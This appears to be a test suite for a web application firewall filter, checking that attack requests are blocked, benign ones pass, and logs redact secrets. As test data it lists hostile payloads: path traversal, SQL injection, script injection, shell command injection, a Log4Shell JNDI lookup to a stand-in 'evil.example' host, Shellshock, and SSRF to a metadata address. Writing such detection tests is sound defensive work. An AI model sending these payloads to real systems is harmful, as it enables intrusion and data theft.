import { describe, expect, test } from "bun:test";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { wafSchema } from "../../config/schema-waf.ts";
import type { WafRecord } from "../../pipeline/events.ts";
import { exchangeOf } from "../../pipeline/exchange.fixture.ts";
import type { Exchange } from "../../pipeline/exchange.ts";
import { type Shared, UNSHARED } from "../../pipeline/shared.ts";
import { contextOf } from "../context.testing.ts";
import { waf } from "./filter.ts";
import { Firewall } from "./firewall.ts";
import { loadRules, ruleWarnings } from "./rule-files.ts";
import { readable } from "./secrets.ts";

const BROWSER = [
  ["Host", "example.com"],
  ["User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"],
  ["Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"],
] as const;

interface Told {
  readonly events?: WafRecord[];
  readonly audit?: string[];
  readonly counts: string[];
  readonly lines: Readonly<Record<string, string | number>>[];
}

function filterOf(config: object, told: Told = { counts: [], lines: [] }) {
  const shared: Shared = {
    ...UNSHARED,
    count: (name, labels) => void told.counts.push(`${name} ${labels.join(" ")}`),
    tell: (_message, fields) => void told.lines.push(fields),
    event: (event) => void (event.kind === "waf" && told.events?.push(event)),
    lines: () => ({ write: (line) => void told.audit?.push(line) }),
  };
  const [filter] = waf.compile({ waf: wafSchema.parse(config) }, contextOf({ shared }));
  return filter!;
}

/** Ends the exchange, as the proxy does. */
function finish(x: Exchange): void {
  for (let held = x.held; held !== null; held = held.next) held.leave();
}

/** The code of the fault that a request to this target is answered with; "" for none. */
function codeOf(
  filter: ReturnType<typeof filterOf>,
  target: string,
  headers: readonly (readonly [string, string])[] = [],
) {
  const x = exchangeOf({ target, headers: [...BROWSER, ...headers] });
  const outcome = filter.request!(x);
  finish(x);
  return outcome === undefined ? "" : (outcome as { code: string }).code;
}

describe("the starter rules", () => {
  const starter = filterOf({});
  const ATTACKS: readonly (readonly [name: string, target: string, header?: readonly [string, string]])[] = [
    ["a path out of the folder", "/files?name=../../etc/hosts"],
    ["the same, encoded twice over", "/files?name=%252e%252e%252fsecret"],
    ["a file of the system", "/view?f=/etc/passwd"],
    ["a hidden file", "/.git/config"],
    ["SQL", "/item?id=1%27%20UNION%20SELECT%20password%20FROM%20users--%20"],
    ["SQL that is always true", "/item?id=1%27%20or%20%271%27=%271"],
    ["a script", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E"],
    ["an event handler", "/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E"],
    ["a command", "/ping?host=1.1.1.1;cat%20/etc/hosts"],
    ["a command in quotes", "/ping?host=$(whoami)"],
    ["a look-up", "/", ["User-Agent", "\x24{jndi:ldap://evil.example/a}"]],
    ["code", "/x?c=%3C?php%20phpinfo()"],
    ["a shell's function", "/", ["X-A", "() { :;}; echo vulnerable"]],
    ["a prototype", "/x?__proto__[admin]=1"],
    ["a template", "/x?name={{7*7}}"],
    ["the server itself", "/fetch?url=http://169.254.169.254/latest/meta-data/"],
    ["a scheme", "/fetch?url=gopher://x/"],
    ["a field", "/x?to=a%0d%0aSet-Cookie:%20a=b"],
    ["a null byte", "/x?file=a%00.png"],
    ["a scanner", "/", ["User-Agent", "sqlmap/1.8"]],
    ["a script in the path", "/%3Cscript%3Ealert(1)%3C/script%3E"],
    ["a file of the system in a cookie", "/", ["Cookie", "theme=/etc/passwd"]],
    ["a charset that hides", "/", ["Content-Type", "application/x-www-form-urlencoded; charset=IBM037"]],
  ];
  for (const [name, target, header] of ATTACKS) {
    test(`refuse ${name}`, () => expect(codeOf(starter, target, header && [header])).toBe("waf.blocked"));
  }

  const BENIGN: readonly string[] = [
    "/",
    "/shop/item?id=12345&color=dark+blue&page=2",
    "/search?q=O%27Brien+%26+Sons",
    "/search?q=select+a+good+union+representative",
    "/search?q=C%2B%2B+%3C+Rust%3F+1+%3E+0",
    "/login?next=/account/settings%3Ftab%3Dprofile",
    "/open?url=https://example.org/a/b?c=d",
    "/doc?v=1.2.3..4&range=1...9",
    "/img/cat.png?w=100&h=200;format=webp",
    "/a?message=I+can%27t+ping+the+server;+is+it+down?",
    "/mail?to=ann%40example.com&subject=Re:+Price+list+%28new%29",
    "/t?code=if+(a+%3E+b)+return+c",
  ];
  for (const target of BENIGN) test(`let ${target} through`, () => expect(codeOf(starter, target)).toBe(""));
});

describe("modes", () => {
  const ATTACK = "/x?q=%3Cscript%3Ealert(1)%3C/script%3E";

  test("a block is counted and logged, once for each rule", () => {
    const told: Told = { counts: [], lines: [] };
    expect(codeOf(filterOf({}, told), ATTACK)).toBe("waf.blocked");
    expect(told.counts).toEqual(["sluice_waf_matches_total 990502 block", "sluice_waf_matches_total 990900 block"]);
    expect(told.lines).toEqual([
      {
        ...{ route: "test", requestId: "id-1", ip: "192.0.2.1", decision: "block", rules: "990502,990900" },
        ...{ message: "Cross-site scripting", variable: "ARGS:q", value: "<script>alert(1)</script>" },
        reason: "Score 5 reaches the threshold 5",
      },
    ]);
  });
  test("detection lets through, and tells what would have been", () => {
    const told: Told = { counts: [], lines: [] };
    expect(codeOf(filterOf({ mode: "detect" }, told), ATTACK)).toBe("");
    expect(told.lines[0]).toMatchObject({ decision: "detect", rules: "990502,990900" });
  });
  test("a higher threshold needs more", () => {
    expect(codeOf(filterOf({ threshold: 10 }), ATTACK)).toBe("");
    expect(codeOf(filterOf({ threshold: 10 }), `${ATTACK}&p=../../x`)).toBe("waf.blocked");
  });
  test("rules can be left out", () => expect(codeOf(filterOf({ exclude: [990502] }), ATTACK)).toBe(""));
  test("a flood does not fill the log", () => {
    const told: Told = { counts: [], lines: [] };
    const filter = filterOf({}, told);
    for (let i = 0; i < 50; i += 1) codeOf(filter, ATTACK);
    expect([told.lines.length, told.counts.length]).toEqual([20, 100]);
  });
});

describe("files", () => {
  const within = (files: Readonly<Record<string, string>>, run: (folder: string) => void): void => {
    const folder = mkdtempSync(join(tmpdir(), "waf-"));
    try {
      for (const [name, text] of Object.entries(files)) writeFileSync(join(folder, name), text);
      run(folder);
    } finally {
      rmSync(folder, { recursive: true });
    }
  };

  test("own rules, with their data and what they include", () => {
    const files = {
      "my.conf": 'Include part-*.conf\nSecRule ARGS "@pmFromFile bad.data" "id:1,deny"',
      "part-a.conf": 'SecRule ARGS "@streq redirect" "id:2,redirect:/other"',
      "bad.data": "# words\nevil\n",
    };
    within(files, (folder) => {
      const filter = filterOf({ rules: [join(folder, "my.conf")] });
      expect([codeOf(filter, "/?a=EVIL"), codeOf(filter, "/?a=good")]).toEqual(["waf.blocked", ""]);
      const reply = filter.request!(exchangeOf({ target: "/?a=redirect" }));
      expect(reply).toMatchObject({ status: 302 });
    });
  });
  test("that change are read anew", () => {
    within({ "my.conf": 'SecRule ARGS "@pmFromFile bad.data" "id:1,deny"', "bad.data": "one\n" }, (folder) => {
      const config = { rules: [join(folder, "my.conf")] };
      expect(codeOf(filterOf(config), "/?a=two")).toBe("");
      writeFileSync(join(folder, "bad.data"), "two\n");
      expect(codeOf(filterOf(config), "/?a=two")).toBe("waf.blocked");
    });
  });
  test("errors say where", () => {
    within({ "my.conf": '\nSecRule ARGS "@nope" "id:1"' }, (folder) => {
      const file = join(folder, "my.conf");
      expect(() => filterOf({ rules: [file] })).toThrow(`${file}:2:15: there is no operator @nope`);
      expect(() => filterOf({ rules: [join(folder, "none.conf")] })).toThrow(/there is no file .*none\.conf/);
      expect(() => filterOf({ crs: join(folder, "crs") })).toThrow(/there are no rules in .*crs/);
    });
  });
});

describe("exclusions", () => {
  const ATTACK = "/x?q=%3Cscript%3Ealert(1)%3C/script%3E";
  const CASES: readonly (readonly [name: string, exclude: unknown[], inQ: string, inP: string])[] = [
    ["an id", [990502], "", ""],
    ["a range", ["990500-990599"], "", ""],
    ["a rule as an object", [{ rule: 990502 }], "", ""],
    ["a rule for one argument", [{ rule: 990502, target: "ARGS:q" }], "", "waf.blocked"],
    ["a range for arguments by an expression", [{ rule: "990500-990599", target: "ARGS:/^p$/" }], "waf.blocked", ""],
    ["another argument", [{ rule: 990502, target: "ARGS:x" }], "waf.blocked", "waf.blocked"],
  ];
  for (const [name, exclude, inQ, inP] of CASES) {
    test(name, () => {
      const filter = filterOf({ exclude });
      expect([codeOf(filter, ATTACK), codeOf(filter, ATTACK.replace("q=", "p="))]).toEqual([inQ, inP]);
    });
  }
  test("by a tag, of files of rules", () => {
    const folder = mkdtempSync(join(tmpdir(), "waf-"));
    const file = join(folder, "my.conf");
    writeFileSync(file, `SecRule ARGS "@contains x" "id:1,deny,tag:'own.rule'"\n`);
    expect(codeOf(filterOf({ rules: [file] }), "/?a=x")).toBe("waf.blocked");
    expect(codeOf(filterOf({ rules: [file], exclude: [{ tag: "own.rule" }] }), "/?a=x")).toBe("");
    expect(codeOf(filterOf({ rules: [file], exclude: [{ tag: "ownXrule" }] }), "/?a=x")).toBe("waf.blocked");
    expect(codeOf(filterOf({ rules: [file], exclude: [{ tag: "own.rule", target: "ARGS:a" }] }), "/?a=x&b=1")).toBe("");
    rmSync(folder, { recursive: true });
  });
  test("that cannot be are refused where they stand, and those that find nothing remarked on", () => {
    const compile = (exclude: unknown[]) => () => filterOf({ exclude });
    expect(compile([1, { rule: 1, target: "NOPE:a" }])).toThrow("there is no variable NOPE");
    expect(compile([{ rule: 1, target: "ARGS:/(/" }])).toThrow("this parenthesis is never closed");
    const config = wafSchema.parse({ exclude: [{ rule: 7, target: "ARGS:a" }], dryRun: { rules: ["nobody", 990502] } });
    expect(ruleWarnings(config)).toEqual([
      { path: ["exclude", 0], message: "7 finds no rule" },
      { path: ["dryRun", "rules", 0], message: "nobody finds no rule" },
    ]);
  });
});

describe("what is only tried", () => {
  const ATTACK = "/x?q=%3Cscript%3Ealert(1)%3C/script%3E";
  const run = (config: object, target: string): [code: string, told: Told & { events: WafRecord[] }] => {
    const told = { counts: [], lines: [], events: [] };
    return [codeOf(filterOf(config, told), target), told];
  };

  test("rules neither decide nor count", () => {
    const [code, { counts, events }] = run({ dryRun: { rules: ["990500-990599"] } }, ATTACK);
    expect([code, counts]).toEqual(["", ["sluice_waf_matches_total 990502 detect"]]);
    expect(events).toMatchObject([{ decision: "detect", score: 0, triedScore: 5, matches: [{ dry: true, score: 5 }] }]);
  });
  test("rules beside those that block", () => {
    const [code, { counts }] = run({ dryRun: { rules: [990502] } }, `${ATTACK}&p=../../x`);
    expect(code).toBe("waf.blocked");
    expect(counts).toContain("sluice_waf_matches_total 990502 detect");
    expect(counts).toContain("sluice_waf_matches_total 990900 block");
  });
  test("a lower threshold", () => {
    expect(run({ threshold: 10, dryRun: { threshold: 5 } }, ATTACK)[1].events[0]!.decision).toBe("detect");
    expect(run({ threshold: 10, dryRun: { threshold: 6 } }, ATTACK)[1].events[0]!.decision).toBe("pass");
  });
  test("a share of the requests is looked at", () => {
    let chance = 0;
    const config = wafSchema.parse({ sample: "25%" });
    const firewall = new Firewall(loadRules(config), config, "r", UNSHARED, () => chance);
    const looked = [0, 0.2, 0.25, 0.9].map((at) => {
      chance = at;
      return firewall.looks();
    });
    expect(looked).toEqual([true, true, false, false]);
  });
});

describe("what is told", () => {
  test("has no secrets: neither under their names, nor as parts of something else", () => {
    const told = { counts: [], lines: [], events: [], audit: [] };
    const filter = filterOf({ audit: { path: "/a", parts: "ABCFHIJKZ", only: "all", redact: ["x-mine"] } }, told);
    codeOf(filter, "/x?password=%3Cscript%3Ealert(1)%3C/script%3E&q=%3Cscript%3Emysecretvalue", [
      ["Authorization", "Bearer mysecretvalue"],
      ["X-Mine", "minealone"],
      ["Cookie", "a=cookievalue; b=%3Cscript%3Ealert(2)%3C/script%3E"],
    ]);
    const all = JSON.stringify(told);
    expect(all).not.toMatch(/mysecretvalue|minealone|cookievalue|alert\(/);
    expect(all).toContain("ARGS:password");
    const { transaction } = JSON.parse((told.audit as string[])[0]!);
    expect(transaction.request.headers).toMatchObject({ Authorization: "***", Cookie: "***", "X-Mine": "***" });
    expect(transaction.request.uri).toBe("/x?password=***&q=%3Cscript%3E***");
  });
  test("of a request without a match, in the audit log alone, where all are wanted", () => {
    const lines = (only: string | undefined): number => {
      const told = { counts: [], lines: [], events: [], audit: [] };
      codeOf(filterOf({ audit: { path: "/a", only } }, told), "/honest");
      expect([told.counts.length, told.events.length]).toEqual([0, 0]);
      return told.audit.length;
    };
    expect([lines("all"), lines("relevant"), lines(undefined)]).toEqual([1, 0, 0]);
  });
  test("in lines that have an end, whatever is sent", () => {
    const told = { counts: [], lines: [], events: [], audit: [] };
    const filter = filterOf({ audit: { path: "/a", parts: "ABCFHZ" } }, told);
    const headers = Array.from({ length: 90 }, (_, n) => [`X-${n}`, `\x01${"\xff".repeat(2000)}`] as const);
    codeOf(filter, "/x?q=%3Cscript%3Ealert(1)%3C/script%3E", headers);
    const [line] = told.audit as string[];
    expect(Buffer.byteLength(line!)).toBeLessThan(65_536);
    expect(JSON.parse(line!).transaction).toMatchObject({ cut: true, sluice: { decision: "block" } });
  });
  test("in letters, where bytes mean some", () => {
    expect(readable(Buffer.from("grüße").latin1Slice())).toBe("grüße");
  });
});
